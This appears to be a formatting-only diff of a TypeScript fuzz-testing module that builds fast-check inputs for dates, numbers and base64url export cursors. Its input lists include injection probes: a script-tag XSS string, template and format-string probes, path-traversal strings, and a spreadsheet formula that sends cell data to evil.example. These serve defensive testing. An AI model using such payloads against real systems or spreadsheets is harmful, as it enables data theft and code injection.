@@ -52,11 +52,40 @@ export const SQL_LIKE = [
   '--',
 ];
 
-export const MARKUP_AND_TEMPLATES = ['<script>alert(1)</script>', '${7*7}', '{{7*7}}', '%s%s%n', '=HYPERLINK("http://evil.example/?x="&A1,"x")', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1'];
+export const MARKUP_AND_TEMPLATES = [
+  '<script>alert(1)</script>',
+  '${7*7}',
+  '{{7*7}}',
+  '%s%s%n',
+  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+  '+1',
+  '-1+1',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+];
 
 export const PATH_LIKE = ['..', '.', '../..', '..\\..', '/', '//', '%2e%2e', '%00', '~', 'a/b', 'a%2Fb', ' '];
 
-export const RESERVED_LOOKING = ['admin', 'root', 'api', 'docs', 'health', 'metrics', 'me', 'Admin', 'ADMIN', 'administrator', 'system', 'null', 'undefined', 'true', 'NaN', 'users', 'maintenance'];
+export const RESERVED_LOOKING = [
+  'admin',
+  'root',
+  'api',
+  'docs',
+  'health',
+  'metrics',
+  'me',
+  'Admin',
+  'ADMIN',
+  'administrator',
+  'system',
+  'null',
+  'undefined',
+  'true',
+  'NaN',
+  'users',
+  'maintenance',
+];
 
 /** Lengths just past the spec's limits and well beyond them. */
 export const longText = fc
@@ -88,9 +117,49 @@ export const numberText: fc.Arbitrary<string> = fc.oneof(
   {
     weight: 4,
     arbitrary: fc.constantFrom(
-      '0', '1', '-1', '-0', '1.5', '0.0001', '1e3', '1e308', '1e999', '-1e999', 'NaN', 'Infinity', '-Infinity', '0x10', '0b11', '0o7', '010',
-      '500', '501', '5000', '5001', '10000000', '10000001', '2147483647', '2147483648', '4294967296', '9007199254740991', '9007199254740993',
-      '18446744073709551616', '99999999999999999999999999999', ' 5', '5 ', '+5', '5,000', '5_000', '\u0663', '\uff15', '', 'null', 'true', '[]', '{}', '1/0',
+      '0',
+      '1',
+      '-1',
+      '-0',
+      '1.5',
+      '0.0001',
+      '1e3',
+      '1e308',
+      '1e999',
+      '-1e999',
+      'NaN',
+      'Infinity',
+      '-Infinity',
+      '0x10',
+      '0b11',
+      '0o7',
+      '010',
+      '500',
+      '501',
+      '5000',
+      '5001',
+      '10000000',
+      '10000001',
+      '2147483647',
+      '2147483648',
+      '4294967296',
+      '9007199254740991',
+      '9007199254740993',
+      '18446744073709551616',
+      '99999999999999999999999999999',
+      ' 5',
+      '5 ',
+      '+5',
+      '5,000',
+      '5_000',
+      '\u0663',
+      '\uff15',
+      '',
+      'null',
+      'true',
+      '[]',
+      '{}',
+      '1/0',
     ),
   },
   { weight: 1, arbitrary: fc.double().map(String) },
@@ -109,19 +178,59 @@ export function dayText(now = new Date()): fc.Arbitrary<string> {
   const year = now.getUTCFullYear();
   return fc.oneof(
     { weight: 4, arbitrary: fc.constantFrom(...DATA_DAYS, today) },
-    { weight: 2, arbitrary: fc.date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date(`${year + 1}-12-31T00:00:00Z`), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)) },
+    {
+      weight: 2,
+      arbitrary: fc
+        .date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date(`${year + 1}-12-31T00:00:00Z`), noInvalidDate: true })
+        .map((d) => d.toISOString().slice(0, 10)),
+    },
     {
       weight: 4,
       arbitrary: fc.constantFrom(
-        '9999-12-31', '0000-01-01', '10000-01-01', '+010000-01-01', '-000001-01-01', '275760-09-13', '1970-01-01', '1969-12-31',
-        '1999-12-31', '2000-01-01', `${year + 1}-12-31`, `${year + 2}-01-01`, '2025-02-29', '2024-02-29', '2025-02-30', '2025-13-01',
-        '2025-00-10', '2025-06-00', '2025-06-32', '2025-6-1', '20250601', '2025/06/01', '2025-06-01T00:00:00Z', '2025-06-01 ', ' 2025-06-01',
-        '2025-06', '2025', 'today', 'now', 'NaN', '', '2025-06-01\u0000', '２０２５-06-01', '2026-99-99',
+        '9999-12-31',
+        '0000-01-01',
+        '10000-01-01',
+        '+010000-01-01',
+        '-000001-01-01',
+        '275760-09-13',
+        '1970-01-01',
+        '1969-12-31',
+        '1999-12-31',
+        '2000-01-01',
+        `${year + 1}-12-31`,
+        `${year + 2}-01-01`,
+        '2025-02-29',
+        '2024-02-29',
+        '2025-02-30',
+        '2025-13-01',
+        '2025-00-10',
+        '2025-06-00',
+        '2025-06-32',
+        '2025-6-1',
+        '20250601',
+        '2025/06/01',
+        '2025-06-01T00:00:00Z',
+        '2025-06-01 ',
+        ' 2025-06-01',
+        '2025-06',
+        '2025',
+        'today',
+        'now',
+        'NaN',
+        '',
+        '2025-06-01\u0000',
+        '２０２５-06-01',
+        '2026-99-99',
       ),
     },
     // Real calendar days far ahead, the last month of year 9999 above all (the next month is +010000-01).
     { weight: 1, arbitrary: fc.integer({ min: 1, max: 31 }).map((d) => `9999-12-${pad(d, 2)}`) },
-    { weight: 1, arbitrary: fc.date({ min: new Date('2100-01-01T00:00:00Z'), max: new Date('9999-12-31T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)) },
+    {
+      weight: 1,
+      arbitrary: fc
+        .date({ min: new Date('2100-01-01T00:00:00Z'), max: new Date('9999-12-31T00:00:00Z'), noInvalidDate: true })
+        .map((d) => d.toISOString().slice(0, 10)),
+    },
     {
       weight: 2,
       arbitrary: fc
@@ -135,14 +244,34 @@ export function dayText(now = new Date()): fc.Arbitrary<string> {
 /** User ids as they could appear in an export cursor. */
 const cursorId = fc.oneof(
   fc.integer({ min: 1, max: 20 }).map(String),
-  fc.constantFrom('0', '-1', '1.5', '2147483647', '2147483648', '4294967297', '9007199254740993', '1e400', '99999999999999999999999', 'NaN', '', ' 1', '0x1', 'abc'),
+  fc.constantFrom(
+    '0',
+    '-1',
+    '1.5',
+    '2147483647',
+    '2147483648',
+    '4294967297',
+    '9007199254740993',
+    '1e400',
+    '99999999999999999999999',
+    'NaN',
+    '',
+    ' 1',
+    '0x1',
+    'abc',
+  ),
 );
 
 /** Export cursors: base64url of `day|id` with every kind of day and id, and strings that are no cursor at all. */
 export function cursorText(now = new Date()): fc.Arbitrary<string> {
   return fc.oneof(
     { weight: 4, arbitrary: fc.tuple(dayText(now), cursorId).map(([d, id]) => Buffer.from(`${d}|${id}`).toString('base64url')) },
-    { weight: 1, arbitrary: fc.constantFrom('2026-99-99|1', '2025-06-01|2147483648', '2025-06-01|9007199254740993', '2025-06-01|1|2', '|', '2025-06-01', '|1').map((t) => Buffer.from(t).toString('base64url')) },
+    {
+      weight: 1,
+      arbitrary: fc
+        .constantFrom('2026-99-99|1', '2025-06-01|2147483648', '2025-06-01|9007199254740993', '2025-06-01|1|2', '|', '2025-06-01', '|1')
+        .map((t) => Buffer.from(t).toString('base64url')),
+    },
     { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map((t) => Buffer.from(t).toString('base64url')) },
     { weight: 1, arbitrary: fc.constantFrom('!!!', '====', 'AAAA', 'a', '', '%', 'A'.repeat(201), 'A'.repeat(5000)) },
     { weight: 1, arbitrary: hostileText },
@@ -179,9 +308,16 @@ export const headerText = fc.oneof(
 export function validDayText(now = new Date()): fc.Arbitrary<string> {
   return fc.oneof(
     { weight: 3, arbitrary: fc.constantFrom(...DATA_DAYS, now.toISOString().slice(0, 10)) },
-    { weight: 1, arbitrary: fc.date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date(`${now.getUTCFullYear() + 1}-12-31T00:00:00Z`), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)) },
+    {
+      weight: 1,
+      arbitrary: fc
+        .date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date(`${now.getUTCFullYear() + 1}-12-31T00:00:00Z`), noInvalidDate: true })
+        .map((d) => d.toISOString().slice(0, 10)),
+    },
   );
 }
 
 /** Cursors as the service gives them out: a seeded day and a small user id. */
-export const validCursorText = fc.tuple(fc.constantFrom(...DATA_DAYS), fc.integer({ min: 1, max: 4 })).map(([d, id]) => Buffer.from(`${d}|${id}`).toString('base64url'));
+export const validCursorText = fc
+  .tuple(fc.constantFrom(...DATA_DAYS), fc.integer({ min: 1, max: 4 }))
+  .map(([d, id]) => Buffer.from(`${d}|${id}`).toString('base64url'));
